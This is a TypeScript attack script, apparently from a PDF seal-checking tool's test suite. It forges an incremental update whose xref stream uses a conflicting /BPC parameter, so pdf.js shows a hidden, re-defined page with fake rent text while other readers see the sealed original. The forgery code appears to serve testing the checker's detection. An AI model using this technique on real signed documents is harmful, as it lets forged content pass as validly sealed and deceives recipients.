// a22: pdf.js's PredictorStream takes the bits per component from `/BPC` before `/BitsPerComponent`
// (params.get("BPC", "BitsPerComponent"), the inline-image abbreviation); sealcheck, poppler, PDFium and qpdf read
// /BitsPerComponent only. An update's xref stream, /Filter /FlateDecode /DecodeParms << /Predictor 10 /Columns 8
// /BitsPerComponent 8 /BPC 16 >>, rows of type 0 (None): sealcheck reads 9-byte rows (object 0 free, the catalog
// again at its sealed offset, itself); pdf.js reads 17-byte rows, so object 1 (the catalog) reads as a free entry,
// the trailer's /Root is no dictionary, and pdf.js rebuilds the table by scanning (XRefParseException), where the
// last `N G obj` wins. Unlisted in the update: page 1 re-defined with a22 H1's header `00000000004 0 obj`.
// modes: honest (no /BPC), plain (`4 0 obj` headers: the unlisted scan's form), bpc, drop (bpc, no unlisted bytes).
//   npx tsx scripts/attack-s17/bpc.ts <honest|plain|bpc|drop>   REAL=0 for samples/valid
import { deflateSync } from "node:zlib";
import { NumberAllocator, serialize } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "bpc";
if (!["honest", "plain", "bpc", "drop"].includes(mode)) throw new Error("usage: <honest|plain|bpc|drop>");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
const alloc = new NumberAllocator(doc);
const [B, C] = [alloc.take(), alloc.take()];
const rootRef = rawGet(view.trailer, "Root");
if (rootRef?.kind !== "ref" || rootRef.num !== 1) throw new Error("the catalog is not object 1");
const sealed = doc.revisions.at(-1)!.entries;
const rootEntry = sealed.find((e) => e.num === 1);
const zero = sealed.find((e) => e.num === 0);
if (rootEntry?.type !== "offset" || zero?.type !== "free") throw new Error("unexpected sealed entries");
const head = (n: number) => (mode === "plain" ? `${n} 0 obj` : `${String(n).padStart(11, "0")} 0 obj`);
const content = latin("1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET\n");
const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
if (mode !== "drop") {
  push([...latin(`${head(B)}\n<< /Length ${content.length} >>\nstream\n`), ...content, ...latin("\nendstream\nendobj\n")]);
  push(latin(`${head(page.ref!.num)}\n${forgedPage}\nendobj\n`));
}
const offC = at;
const row = (type: number, f2: number, f3: number) => [
  type,
  (f2 >>> 24) & 0xff,
  (f2 >>> 16) & 0xff,
  (f2 >>> 8) & 0xff,
  f2 & 0xff,
  (f3 >> 16) & 0xff,
  (f3 >> 8) & 0xff,
  f3 & 0xff,
];
const rows = [row(0, zero.nextFree, zero.gen), row(1, rootEntry.offset, rootEntry.gen), row(1, offC, 0)];
const data = [...deflateSync(Uint8Array.from(rows.flatMap((r) => [0, ...r])))];
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const parms = ` /DecodeParms << /Predictor 10 /Columns 8 /BitsPerComponent 8${mode === "honest" ? "" : " /BPC 16"} >>`;
push([
  ...latin(
    `${C} 0 obj\n<< /Type /XRef /Size ${C + 1} /W [1 4 3] /Index [0 2 ${C} 1] /Prev ${doc.revisions.at(-1)!.startxref} ${carried.join(" ")} /Filter /FlateDecode${parms} /Length ${data.length} >>\nstream\n`,
  ),
  ...data,
  ...latin(`\nendstream\nendobj\nstartxref\n${offC}\n%%EOF\n`),
]);
const file = save(work(`s17-bpc-${mode}`), "archive.pdf", Uint8Array.from(parts.flat()));
judge(`bpc ${mode}`, file);
